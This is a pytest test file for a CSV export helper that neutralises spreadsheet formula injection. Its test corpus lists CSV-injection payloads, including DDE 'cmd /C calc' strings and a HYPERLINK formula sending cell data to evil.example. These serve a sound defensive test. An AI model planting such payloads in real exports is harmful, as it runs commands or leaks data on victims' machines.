"""The one CSV helper (core.csv_export): no cell, nor any part of a cell that a spreadsheet could split off at a
separator of its locale or a line break, starts a formula when the file is opened."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_export import csv_response, neutralise

FORMULA_START = ("=", "+", "-", "@")
SEPARATORS = (",", ";", "\t", "|")

# Payloads from CSV-injection write-ups (OWASP, PayloadsAllTheThings) and the issue's `x;=1+1`.
CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+9)*cmd|' /C calc'!A0", "+thespanishinquisition(expected)", "-2+3+cmd|' /C calc'!A0",
    "x;=1+1", "x,=1+1", "x\t=1+1", "x|=1+1", "x\n=1+1", "x\r\n@SUM(A1)", "x; =1+1", "x;\t+1", "a;b;-c",
    "Printer;=HYPERLINK(\"http://evil\")", "ok,ok\n+1", "ok;ok;ok;=1", "=1;=2;=3", "'already quoted",
]


def pieces(text: str) -> list[str]:
    """Every cell a spreadsheet could see in `text`: split at each locale's separator and at line breaks."""
    out = []
    for separator in SEPARATORS:
        out.extend(re.split(f"[{re.escape(separator)}\r\n]", text))
    return out


def runs_a_formula(text: str) -> bool:
    return text.startswith(("\t", "\r", "\n")) or any(p.lstrip().startswith(FORMULA_START) for p in pieces(text))


@pytest.mark.parametrize("payload", CORPUS)
def test_no_part_of_a_neutralised_cell_starts_a_formula(payload):
    assert runs_a_formula(payload) or payload == "'already quoted"  # the corpus is hostile
    cell = neutralise(payload)
    assert not runs_a_formula(cell), repr(cell)
    assert cell.replace("'", "") == payload.replace("'", "")  # only quotes were added: nothing is lost


@given(st.text(alphabet="=+-@,;|\t\r\n 'ax1(", max_size=30))
def test_any_text_is_neutralised(text):
    assert not runs_a_formula(neutralise(text))


def test_plain_text_and_numbers_are_kept_as_they_are():
    values = ["E-mail", "a=b", "a-b; c", "Tom, Dick and Harry", "2026-11-02", 12, -3, 66.7, None, True, ""]
    assert [neutralise(v) for v in values] == [
        "E-mail", "a=b", "a-b; c", "Tom, Dick and Harry", "2026-11-02", 12, -3, 66.7, "", "yes", ""]


def test_the_download_quotes_text_cells_and_round_trips():
    response = csv_response("x.csv", ["Name", "Count"], [["x;=1+1", 3], ["=cmd()", -4], ["a\n@b", 1.5]])
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[1] == '"x;\'=1+1",3'  # a `;` locale sees one quoted cell, with no formula in it
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Name", "Count"], ["x;'=1+1", "3"], ["'=cmd()", "-4"], ["a\n'@b", "1.5"]]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
